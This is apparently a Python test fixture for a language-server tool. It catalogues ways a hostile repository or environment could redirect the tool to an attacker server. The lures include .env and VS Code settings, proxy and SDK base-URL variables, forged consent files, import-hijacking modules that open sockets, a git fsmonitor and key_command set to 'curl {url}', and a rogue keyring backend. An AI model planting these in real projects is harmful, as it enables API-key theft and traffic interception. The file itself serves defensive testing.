"""What a hostile repository, or an environment that it got hold of, does to make us connect to its server."""

import hashlib
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

CODE = 'import os\nimport sys\n\n\ndef main():\n    """Do it."""\n    return '
ANTHROPIC = "https://api.anthropic.com"
KEY = "sk-ant-" + "lure-key-0123456789"


@dataclass(frozen=True, slots=True)
class Lure:
    """One trick. `{url}`, `{host}` and `{port}` in it stand for the server that waits for us."""

    files: Mapping[str, str] = field(default_factory=dict)
    """In the repository, by path."""
    home: Mapping[str, str] = field(default_factory=dict)
    """In the home directory of the user, by path."""
    environment: Mapping[str, str] = field(default_factory=dict)
    settings: Mapping[str, object] = field(default_factory=dict)
    """What the editor hands on as its settings."""
    uri: str = ""
    """Where the document lies; "": in the repository."""


SETTINGS: dict[str, object] = {
    "offline": False,
    "hosted.endpoint": "{url}",
    "hosted.proxy": "{url}",
    "hosted.model": "{url}",
    "hosted.api_key": KEY,
    "hosted.output_tokens_max": 20_000,
    "hosted.consent": "allowed",
    "hosted.keep_sent": True,
    "budget.day_usd": "1000",
    "model.path": "{url}/model.gguf",
    "models.hub": "{url}",
    "models.proxy": "{url}",
    "log.file": "stolen.log",
    "log.level": "debug",
}
DOTTED = json.dumps({f"cope.{key}": value for key, value in SETTINGS.items()})
TOML = "".join(f"{key} = {json.dumps(value)}\n" for key, value in SETTINGS.items())
VARIABLES = {
    "COPE_LSP_HOSTED_ENDPOINT": "{url}",
    "COPE_LSP_HOSTED_PROXY": "{url}",
    "COPE_LSP_MODELS_HUB": "{url}",
    "COPE_LSP_OFFLINE": "false",
    "COPE_LSP_API_KEY": KEY,
    "ANTHROPIC_BASE_URL": "{url}",
    "ANTHROPIC_API_KEY": KEY,
    "HTTPS_PROXY": "{url}",
}
DOTENV = "".join(f"{name}={value}\n" for name, value in VARIABLES.items())
CALLING = (
    "import socket as _s\n_c = _s.create_connection(('{host}', {port}))\n_c.sendall(b'taken over')\n"
    "raise SystemExit('taken over')\n"
)
PRICES = (
    f'[[price]]\nendpoint = "{{url}}"\nmodel = "*"\nas_of = {datetime.now(UTC).date()}\n'
    'input = "0"\noutput = "0"\ncache_write_5m = "0"\ncache_write_1h = "0"\ncache_read = "0"\n'
)
NETRC = "machine {host} login me password secret-of-netrc\nmachine api.anthropic.com login me password x\n"


def consent_of(workspace: str) -> dict[str, str]:
    """Return what a file of consent would be called and hold."""
    name = hashlib.sha256(f"{workspace}\0{ANTHROPIC}".encode()).hexdigest()
    forged = {"workspace": workspace, "endpoint": ANTHROPIC, "answer": "allowed", "at": "2026-01-01T00:00:00"}
    return {f"{name}.json": json.dumps(forged)}


def _modules(*names: str) -> dict[str, str]:
    return {f"{name}.py": CALLING for name in names}


def _environment(**variables: str) -> Lure:
    return Lure(environment=variables)


LURES: dict[str, Lure] = {
    ".env": Lure({".env": DOTENV}),
    ".env.local": Lure({".env.local": DOTENV, ".env.development": DOTENV}),
    ".envrc": Lure({".envrc": "".join(f"export {line}\n" for line in DOTENV.splitlines())}),
    "settings of VS Code": Lure({".vscode/settings.json": DOTTED}),
    "settings of VS Code's terminal": Lure(
        {".vscode/settings.json": json.dumps({"terminal.integrated.env.linux": VARIABLES})}
    ),
    "a workspace of VS Code": Lure({"x.code-workspace": json.dumps({"settings": json.loads(DOTTED)})}),
    "settings of the project": Lure({".cope.toml": TOML}),
    "an endpoint in the project": Lure({".cope.toml": '[hosted]\nendpoint = "{url}"\n'}),
    "a proxy in the project": Lure({".cope.toml": '[hosted]\nproxy = "{url}"\n'}),
    "a model's address in the project": Lure({".cope.toml": '[model]\npath = "{url}/model.gguf"\n'}),
    "online in the project of an offline user": Lure(
        {".cope.toml": "offline = false\n"}, environment={"COPE_LSP_OFFLINE": "true"}
    ),
    "a key in the project": Lure({".cope.toml": '[hosted]\napi_key = "x"\nkey_command = "curl {url}"\n'}),
    "a folder of ours": Lure({".cope-lsp/cope.toml": TOML, ".cope-lsp/config.toml": TOML}),
    "a folder like the user's": Lure(
        {"cope-lsp/config.toml": TOML, "cope-lsp/prices.toml": PRICES, ".config/cope-lsp/config.toml": TOML}
    ),
    "a table of pyproject": Lure({"pyproject.toml": "[tool.cope-lsp]\n" + TOML}),
    "forged consent": Lure(
        {f"{folder}consent/{{consent}}": "{forged}" for folder in ("", "cope-lsp/", "data/cope-lsp/")}
    ),
    "prices of nothing": Lure({"prices.toml": PRICES, "cope-lsp/prices.toml": PRICES}),
    "modules that Python looks for": Lure(_modules("sitecustomize", "usercustomize", "site")),
    "modules that we look for": Lure(_modules("anthropic", "httpx2", "json", "keyring", "pygls", "socket")),
    "a package of ours": Lure({"cope_lsp/__init__.py": CALLING, "cope_lsp/__main__.py": CALLING}),
    "a command in git's settings": Lure(
        {".git/config": "[core]\n\tfsmonitor = curl {url}\n\thooksPath = hooks\n", ".git/HEAD": "ref: x\n"}
    ),
    "a keyring of its own": Lure(
        {"keyringrc.cfg": "[backend]\ndefault-keyring=evil.Keyring\nkeyring-path=.\n", "evil.py": CALLING}
    ),
    "a .netrc": Lure({".netrc": NETRC}, home={".netrc": NETRC, "_netrc": NETRC}),
    "a proxy": _environment(HTTP_PROXY="{url}", HTTPS_PROXY="{url}", NO_PROXY=""),
    "a proxy in small letters": _environment(http_proxy="{url}", https_proxy="{url}", no_proxy=""),
    "a proxy for everything": _environment(ALL_PROXY="{url}", all_proxy="socks5://{host}:{port}"),
    "another address of the SDK": _environment(ANTHROPIC_BASE_URL="{url}", ANTHROPIC_API_KEY=KEY),
    "all that the SDK reads": _environment(
        ANTHROPIC_BASE_URL="{url}", ANTHROPIC_AUTH_TOKEN=KEY, ANTHROPIC_CUSTOM_HEADERS="x-spy: 1",
        ANTHROPIC_LOG="debug", ANTHROPIC_CONFIG_DIR=".", ANTHROPIC_PROFILE="evil",
    ),
    "other certificates": Lure(
        {"ca.pem": "-----BEGIN CERTIFICATE-----\n"},
        environment={"SSL_CERT_FILE": "ca.pem", "SSL_CERT_DIR": ".", "REQUESTS_CA_BUNDLE": "ca.pem",
                     "SSLKEYLOGFILE": "keys.log", "HTTPS_PROXY": "{url}"},
    ),
    "telemetry": _environment(
        OTEL_EXPORTER_OTLP_ENDPOINT="{url}", OTEL_TRACES_EXPORTER="otlp", SENTRY_DSN="http://x@{host}:{port}/1",
    ),
    "places of models": _environment(
        HF_ENDPOINT="{url}", HF_HUB_OFFLINE="0", LLAMA_ARG_MODEL_URL="{url}/m.gguf", MODEL_ENDPOINT="{url}",
    ),
    "a desktop's bus elsewhere": _environment(DBUS_SESSION_BUS_ADDRESS="tcp:host={host},port={port}"),
    "settings of the editor": Lure(settings=SETTINGS),
    "a document elsewhere": Lure(uri="{url}/evil.py"),
    "a document on another machine": Lure(uri="file://{host}:{port}/share/evil.py"),
    "the user's own server, not agreed to": Lure(
        home={"cope-lsp/prices.toml": PRICES},
        environment={"COPE_LSP_HOSTED_ENDPOINT": "{url}", "COPE_LSP_API_KEY": KEY},
    ),
}  # fmt: skip
"""By what it pretends to be."""


def all_at_once() -> Lure:
    """Return everything together, but for what is a user's own choice, and other documents."""
    own = {"COPE_LSP_OFFLINE", "COPE_LSP_HOSTED_ENDPOINT"}
    chosen = [lure for lure in LURES.values() if not lure.uri and not own & set(lure.environment)]
    files: dict[str, str] = {}
    home: dict[str, str] = {}
    environment: dict[str, str] = {}
    settings: dict[str, object] = {}
    for lure in chosen:
        files |= lure.files
        home |= lure.home
        environment |= lure.environment
        settings |= lure.settings
    return Lure(files, home, environment, settings)


@dataclass(frozen=True, slots=True)
class Place:
    """Where a lure is laid: a repository, a home, and the server that waits."""

    repository: Path
    home: Path
    host: str
    port: int

    def lay(self, lure: Lure) -> None:
        """Write the files of `lure`."""
        for folder, files in ((self.repository, lure.files), (self.home, lure.home)):
            folder.mkdir(parents=True, exist_ok=True)
            for name, text in files.items():
                path = folder / self.fill(name)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(self.fill(text), "utf-8")

    def fill(self, value: Any) -> Any:
        """Return `value` with the server's address in all its texts."""
        if isinstance(value, Mapping):
            return {name: self.fill(inner) for name, inner in value.items()}
        if not isinstance(value, str):
            return value
        ((consent, forged),) = consent_of(str(self.repository.resolve())).items()
        known = {"url": f"http://{self.host}:{self.port}", "host": self.host, "port": str(self.port),
                 "consent": consent, "forged": forged}  # fmt: skip
        for name, text in known.items():
            value = value.replace(f"{{{name}}}", text)
        return value
